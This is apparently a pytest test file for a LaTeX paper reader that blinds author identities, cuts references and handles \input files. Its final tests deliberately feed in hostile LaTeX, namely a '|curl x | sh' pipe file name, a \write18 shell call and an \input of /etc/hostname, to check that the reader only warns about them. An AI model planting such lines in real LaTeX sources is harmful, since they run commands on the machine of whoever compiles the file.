"""LaTeX project reader on the real papers in ../shared/data/papers."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from rhetorica.documents import DocumentReadError, ReadOptions, read_document

# (folder, level-1 section titles in order, abstract first sentence, author names and emails
#  that must be absent, a known caption line, a known piece of math)
PAPERS = [
    (
        "chebnet_nips2016",
        ["Abstract", "Introduction", "Proposed Technique", "Related Works", "Numerical Experiments",
         "Conclusion and Future Work"],
        "In this work, we are interested in generalizing convolutional neural networks (CNNs) from "
        "low-dimensional regular grids, where image, video and speech are represented, to "
        "high-dimensional irregular domains, such as social networks, brain connectomes or words' "
        "embedding, represented by graphs.",
        ["Michaël Defferrard", "Xavier Bresson", "Vandergheynst", "@epfl.ch", "github.com/mdeff"],
        "Figure: Architecture of a CNN on graphs and the four ingredients of a (graph) convolutional layer.",
        "y = g_\\theta(L) x = g_\\theta(U \\Lambda U^T) x = U g_\\theta(\\Lambda) U^T x.",
    ),
    (
        "cheblienet_neurips2021",
        ["Abstract", "Introduction", "Related works", "Method", "Experiments", "Conclusion"],
        "We introduce ChebLieNet, a group-equivariant method on (anisotropic) manifolds.",
        ["Hugo Aguettaz", "Erik J Bekkers", "Defferrard", "hugo.aguettaz@epfl.ch", "e.j.bekkers@uva.nl",
         "github.com/haguettaz"],
        "Subfigure: Base space $\\mathcal{M}$ with an isotropic Riemannian metric",
        "f *_{\\mathcal{G}} g = \\boldsymbol{\\Phi} (\\boldsymbol{\\hat{g}} \\odot \\boldsymbol{\\hat{f}})",
    ),
    (
        "fma_ismir2017",
        ["Abstract", "Introduction", "Dataset", "Usage", "Discussion", "Conclusion and Perspectives"],
        "We introduce the Free Music Archive (FMA), an open and easily accessible dataset suitable for "
        "evaluating several tasks in MIR, a field concerned with browsing, searching, and organizing "
        "large music collections.",
        ["Defferrard", "Kirell Benzi", "xbresson@ntu.edu.sg", "NRF Fellowship", "github.com/mdeff"],
        "Table: Comparison between FMA and alternative datasets.",
        "`tracks.csv`",
    ),
    (
        "gcrn_iclr2017",
        ["Abstract", "Introduction", "Preliminaries", "Related Works", "Proposed GCRN Models",
         "Experiments", "Conclusion and Future Work"],
        "This paper introduces Graph Convolutional Recurrent Network (GCRN), a deep learning model able "
        "to predict structured sequences of data.",
        ["Youngjoo Seo", "Yougjoo Seo", "Defferrard", "H2020 Framework"],
        "Figure: Illustration of the proposed GCRN model for spatio-temporal prediction of "
        "graph-structured data.",
        "\\hat{x}_{t+1}, \\ldots, \\hat{x}_{t+K} =",
    ),
    (
        "stable-nalu_iclr2020",
        ["Abstract", "Introduction", "Introducing differentiable binary arithmetic operations",
         "Related work", "Experimental results", "Conclusion"],
        "Neural networks can approximate complex functions, but they struggle to perform exact "
        "arithmetic operations over real numbers.",
        ["Andreas Madsen", "Alexander Rosenberg Johansen", "amwebdk@gmail.com", "aler@dtu.dk",
         "Technical University of Denmark", "github.com/AndreasMadsen", "Andrew Trask"],
        "Figure: Visualization of NMU for a single output scalar $z_1$, this construction repeats for "
        "every element in the output vector $\\mathbf{z}$.",
        "\\textrm{NAC}_+:\\ z_{h_\\ell} &= \\sum_{h_{\\ell-1}=1}^{H_{\\ell-1}} W_{h_{\\ell}, h_{\\ell-1}} z_{h_{\\ell-1}}",
    ),
    (
        "scipy-1.0",
        ["Abstract", "Introduction", "Background", "Architecture and implementation choices",
         "Key technical improvements", "Project organization and community", "Discussion",
         "Data Availability"],
        "SciPy is an open source scientific computing library for the Python programming language.",
        ["Matt Haberland", "Tyler Reddy", "Quansight", "Jyväskylä", "scipy.articles@gmail.com"],
        "Figure: Excerpt from the SciPy 0.1 release announcement (typos corrected) posted August 20, "
        "2001, on the \"Python-list\" mailing list\\cite{first-scipy-rel}.",
        "solves problems of the form $\\min_x f(x)$, where",
    ),
]


@pytest.fixture(scope="module")
def documents(papers_dir: Path) -> dict:
    return {name: read_document(papers_dir / name) for name, *_ in PAPERS}


@pytest.mark.parametrize(("name", "titles", "first_sentence", "absent", "caption", "math"), PAPERS)
def test_paper_facts(documents, name, titles, first_sentence, absent, caption, math) -> None:
    doc = documents[name]
    markdown = doc.to_markdown()
    assert doc.id == name
    assert [s.title for s in doc.sections if s.level == 1] == titles
    assert doc.sections[0].title == "Abstract"
    assert doc.sections[0].text.startswith(first_sentence)
    # citation keys may carry author names (e.g. \\cite{...Vandergheynst13...}); they are kept
    prose = re.sub(r"\\[a-zA-Z]*cite[a-zA-Z]*(\[[^\]]*\])*\{[^}]*\}", "", markdown)
    for item in absent:
        assert item not in prose, item
    assert any(line.startswith(caption) for line in markdown.splitlines()), caption
    assert math in markdown
    assert "\\includegraphics" not in markdown
    assert "References" not in [s.title for s in doc.sections]
    assert doc.source.parser == "rhetorica-latex" and doc.source.text_hash
    assert doc.removed, "blinding should record the removed author block"
    assert doc.warnings == []


def test_stable_nalu_inputs_appendix_and_audit(documents) -> None:
    doc = documents["stable-nalu_iclr2020"]
    titles = [s.title for s in doc.sections]
    # subsection levels and \input of sections/*.tex
    assert ("Introducing NALU", 2) in [(s.title, s.level) for s in doc.sections]
    assert doc.metadata["main_file"] == "main.tex"
    assert "sections/methods.tex" in doc.metadata["files"]
    assert doc.venue == "ICLR 2020"
    # the appendix (after \bibliography and \appendix) is cut
    assert "Gradient derivatives" not in titles
    assert doc.metadata["cut_at"] == "\\bibliography"
    items = {(r.item, r.text) for r in doc.removed}
    assert ("identity URL", "https://github.com/AndreasMadsen/stable-nalu") in items
    assert any(r.item == "acknowledgements section" and "Andrew Trask" in r.text for r in doc.removed)
    assert any(r.item == "author block" and "aler@dtu.dk" in r.text for r in doc.removed)
    # non-identity URLs stay (pytorch/examples is not an author's account)
    assert "https://github.com/pytorch/examples/tree/master/mnist" in doc.to_markdown()
    # citations kept verbatim
    assert "\\citet{trask-nalu}" in doc.to_markdown()


def test_scipy_main_file_detected_among_several(papers_dir: Path) -> None:
    doc = read_document(papers_dir / "scipy-1.0" / "scipy-1.0")
    assert doc.metadata["main_file"] == "paper.tex"
    assert doc.id == "scipy-1.0"
    # sections after \bibliography (Acknowledgements, Author Contributions) never appear
    assert "Author Contributions Statement" not in [s.title for s in doc.sections]


def test_no_cut_keeps_appendix_and_references(papers_dir: Path) -> None:
    doc = read_document(
        papers_dir / "stable-nalu_iclr2020", options=ReadOptions(cut_after_references=False, blind=False)
    )
    titles = [s.title for s in doc.sections]
    assert titles.index("References") < titles.index("Gradient derivatives")
    refs = next(s for s in doc.sections if s.title == "References").text
    assert refs.startswith("[nieder-neuronal-number] ")
    assert "Acknowledgments" in titles and doc.removed == []


def test_max_words_excerpt(papers_dir: Path) -> None:
    full = read_document(papers_dir / "stable-nalu_iclr2020")
    short = read_document(papers_dir / "stable-nalu_iclr2020", options=ReadOptions(max_words=700))
    words = [s.word_count for s in full.sections]
    # Abstract (181) + Introduction (487) fit in 700; the next section would not
    assert sum(words[:2]) <= 700 < sum(words[:3])
    assert [s.title for s in short.sections] == [s.title for s in full.sections[:2]]
    # the next section's first paragraph (59 words) does not fit in the 32 words left
    assert short.metadata["excerpt"] == (
        f"kept {sum(words[:2])} of {sum(words)} words (cut before section '{full.sections[2].title}')"
    )
    assert short.warnings == []
    tiny = read_document(papers_dir / "stable-nalu_iclr2020", options=ReadOptions(max_words=5))
    assert [s.title for s in tiny.sections] == ["Abstract"]
    assert tiny.word_count == words[0]  # the abstract is one paragraph: kept whole, never cut inside


def test_missing_input_gives_warning_and_partial_result(tmp_path: Path) -> None:
    (tmp_path / "sections").mkdir()
    (tmp_path / "sections" / "intro.tex").write_text("\\section{Intro}\nHello $x^2$ world.\n")
    (tmp_path / "main.tex").write_text(
        "\\documentclass{article}\n\\begin{document}\n\\input{sections/intro}\n"
        "\\input{sections/missing}\n\\section{End}\nBye.\n\\end{document}\n"
    )
    doc = read_document(tmp_path)
    assert [s.title for s in doc.sections] == ["Intro", "End"]
    assert doc.sections[0].text == "Hello $x^2$ world."
    assert doc.warnings == ["main.tex:4: missing \\input file 'sections/missing': the text it would bring in is "
                            "absent from this document"]


def test_input_outside_project_is_not_read(tmp_path: Path) -> None:
    (tmp_path / "main.tex").write_text(
        "\\documentclass{article}\n\\begin{document}\n\\section{A}\n\\input{/etc/hostname}\nText.\n\\end{document}\n"
    )
    doc = read_document(tmp_path)
    assert doc.sections[0].text == "Text."
    assert "/etc/hostname" in doc.warnings[0]


def test_no_main_file_is_a_clear_error(tmp_path: Path) -> None:
    (tmp_path / "a.tex").write_text("\\section{Only a fragment}\n")
    with pytest.raises(DocumentReadError, match=r"no main \.tex file found"):
        read_document(tmp_path)


def test_rendering_details(tmp_path: Path) -> None:
    (tmp_path / "p.tex").write_text(
        "\\documentclass{article}\n\\newcommand{\\method}{FooNet}\n\\newcommand{\\figref}[1]{Figure~\\ref{fig:#1}}\n"
        "\\title{A \\method{} paper}\n\\author{Jane Q. Doe \\\\ Uni \\\\ \\texttt{jane@uni.edu}}\n"
        "\\begin{document}\n\\maketitle\n"
        "\\section{Intro}\nWe use \\emph{our} \\method\\ model % a comment\n"
        "(see \\figref{arch}; 50\\% faster) by Schr\\\"odinger.\n"
        "\\begin{itemize}\n\\item first\n\\item second\n\\end{itemize}\n"
        "\\begin{figure}\\includegraphics{x.png}\\caption{The arch.}\\label{fig:arch}\\end{figure}\n"
        "\\subsection{Code}\nSee \\url{https://github.com/janedoe/foonet} and \\url{https://pytorch.org}.\n"
        "\\iffalse hidden \\fi shown\n"
        "\\end{document}\n"
    )
    doc = read_document(tmp_path / "p.tex")
    assert doc.id == "p" and doc.title == "A FooNet paper"
    assert [(s.title, s.level) for s in doc.sections] == [("Intro", 1), ("Code", 2)]
    assert doc.sections[0].text == (
        "We use *our* FooNet model (see Figure \\ref{fig:arch}; 50% faster) by Schrödinger.\n\n"
        "- first\n- second\n\nFigure: The arch. \\label{fig:arch}"
    )
    assert doc.sections[1].text == "See [anonymized URL] and https://pytorch.org. shown"
    assert [r.item for r in doc.removed] == ["author block", "identity URL"]


def test_a_shell_or_pipe_attempt_is_a_warning_with_its_line(tmp_path: Path) -> None:
    (tmp_path / "main.tex").write_text(
        "\\documentclass{article}\n\\begin{document}\n\\section{A}\nSome words here.\n"
        "\\IfFileExists{|\"curl x | sh\"}{}{}\nMore words.\n\\end{document}\n")
    assert read_document(tmp_path).warnings == [
        "main.tex:5: shell attempt (pipe): '{|\"curl x | sh\"' opens a pipe: a file name starting with '|' runs as a "
        "shell command under shell escape"]


def test_a_project_of_only_a_write18_line_is_an_error_that_names_it(tmp_path: Path) -> None:
    (tmp_path / "main.tex").write_text("\\documentclass{article}\n\\begin{document}\n\\immediate\\write18{id}\n\\end{document}\n")
    with pytest.raises(DocumentReadError) as caught:
        read_document(tmp_path)
    assert str(caught.value).endswith(
        "main.tex produced no text; main.tex:3: shell attempt (write18): '\\write18' runs a shell command when "
        "compiled with shell escape (\\write to stream 18)")
